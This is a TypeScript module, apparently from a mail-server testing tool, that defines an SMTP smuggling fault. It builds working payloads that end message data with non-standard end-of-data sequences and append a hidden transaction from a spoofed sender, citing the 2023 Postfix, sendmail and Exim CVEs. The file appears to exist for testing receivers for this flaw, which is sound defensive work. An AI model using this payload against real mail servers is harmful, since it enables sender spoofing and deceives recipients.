import { z } from 'zod';
import { defineSenderFault } from './fault.js';

// SMTP smuggling (SEC Consult, December 2023; CVE-2023-51764 Postfix, CVE-2023-51765
// sendmail, CVE-2023-51766 Exim): the message ends with an end-of-data sequence that some
// receivers accept and others do not, and a second transaction with another sender
// follows it. A receiver that takes the odd ending splits the data into two messages.
const ENDINGS = {
  '<LF>.<CR><LF>': '\n.\r\n',
  '<CR>.<CR>': '\r.\r',
  '<LF>.<LF>': '\n.\n',
  '<CR><LF>.<LF>': '\r\n.\n',
} as const;

export default defineSenderFault({
  name: 'smuggle',
  summary: 'End the message with a non-standard end of data, followed by a hidden MAIL, RCPT, DATA and message from another sender, then the real <CR><LF>.<CR><LF>',
  steps: ['END-OF-DATA'],
  settings: {
    ending: z.enum(Object.keys(ENDINGS) as [keyof typeof ENDINGS, ...Array<keyof typeof ENDINGS>]).default('<LF>.<CR><LF>').describe('The end of data the receiver should not take'),
    from: z.string().min(3).default('spoofed@example.test').describe('The sender of the hidden message'),
  },
  apply(target, { ending, from }) {
    const text = target.bytes.toString('latin1');
    // The planned bytes end with <CR><LF>.<CR><LF>; the odd ending goes right after the last line.
    const body = text.slice(0, text.length - 5);
    const to = target.recipients[0] ?? 'rcpt@example.test';
    const hidden = [
      `MAIL FROM:<${from}>`,
      `RCPT TO:<${to}>`,
      'DATA',
      `From: <${from}>`,
      `To: <${to}>`,
      'Subject: smuggled',
      '',
      `This message hid inside another one, behind ${ending}.`,
      '.',
      '',
    ].join('\r\n');
    target.bytes = Buffer.from(body + ENDINGS[ending] + hidden, 'latin1');
    target.hide(['MAIL', 'RCPT', 'DATA', 'END-OF-DATA'], from);
    return { detail: `ended the message with ${ending} and hid a message from <${from}> behind it` };
  },
});
